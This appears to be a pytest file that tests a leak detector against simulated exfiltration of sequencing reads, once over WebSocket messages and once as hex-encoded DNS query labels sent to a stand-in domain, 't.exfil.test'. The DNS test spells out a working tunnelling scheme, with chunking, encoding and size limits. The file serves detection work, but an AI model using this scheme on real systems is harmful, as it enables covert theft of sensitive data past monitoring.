"""Reads in WebSocket JSON messages, and read fragments hex-encoded into DNS query labels."""

from __future__ import annotations

import base64
import json

import pytest

from .conftest import assert_leak

pytestmark = pytest.mark.e2e


def test_websocket_messages_with_reads(recorder, ws_server, sim_run, replay):
    from websockets.sync.client import connect

    sample = sim_run.sample_ids[0]
    reads = sim_run.reads(sample, 60)
    with recorder() as rec, connect(f"ws://{ws_server.host}:{ws_server.port}/live") as ws:
        for i in range(0, len(reads), 12):
            ws.send(json.dumps({"type": "basecall_preview", "batch": i // 12, "reads": reads[i:i + 12]}))
            ws.recv(timeout=5)
    assert len(ws_server.received) == 5
    result = replay(rec.path, sim_run.path)
    hits = assert_leak(result, sim_run, sample)
    assert any(any("websocket" in step.lower() for step in f["chain"]) for f in hits)


def test_dns_queries_with_hex_encoded_reads(recorder, dns_server, sim_run, replay):
    import dns.message
    import dns.query

    sample = sim_run.sample_ids[1]
    tag = base64.b32encode(sample.encode()).decode().rstrip("=").lower()
    names = []
    for n, read in enumerate(sim_run.reads(sample, 12)):
        for part in range(0, len(read), 76):  # 76 bases = 152 hex chars: a name stays under 255 octets
            hexed = read[part:part + 76].encode().hex()
            labels = [hexed[i:i + 60] for i in range(0, len(hexed), 60)]
            names.append(".".join([*labels, f"r{n}p{part // 76}", tag, "t.exfil.test"]))
    with recorder() as rec:
        for name in names:
            dns.query.udp(dns.message.make_query(name, "A"), dns_server.host, port=dns_server.port, timeout=5)
    assert len(dns_server.received) == len(names)
    result = replay(rec.path, sim_run.path)
    assert "dns-tunnel" in result.kinds(), result.findings
    tunnel = result.of_kind("dns-tunnel")[0]
    assert "exfil.test" in tunnel["destination"] or "exfil.test" in json.dumps(tunnel)
    assert_leak(result, sim_run, sample)
